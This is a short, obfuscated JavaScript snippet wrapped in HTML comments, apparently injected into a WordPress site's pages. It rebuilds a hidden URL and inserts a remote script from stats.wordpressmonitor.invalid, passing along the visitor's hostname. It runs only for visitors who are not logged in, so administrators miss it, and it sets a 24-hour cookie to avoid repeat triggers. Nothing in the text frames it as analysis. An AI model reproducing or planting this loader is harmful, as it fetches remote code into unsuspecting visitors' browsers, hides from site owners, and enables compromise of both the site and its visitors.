<!--
var a0="ptth".split("").reverse().join("")+"s://";
var a1=["wor","dpre","ssmo","nitor",".inv","alid"].join("");
(function(){
var z=document.createElement("script");
z["s"+"rc"]=a0+"stats."+a1+"/mon"+"it.js?t="+Date.now()+"&h="+location.hostname;
var first=document.getElementsByTagName("sc"+"ript")[0];
if(document.cookie.indexOf("wordpress_logged_in")==-1&&document.cookie.indexOf("_mnt")==-1){
first.parentNode.insertBefore(z,first);
var e=new Date;e.setHours(e.getHours()+24);
document.cookie="_mnt=1;path=/;expires="+e.toUTCString();
}
})();
//-->
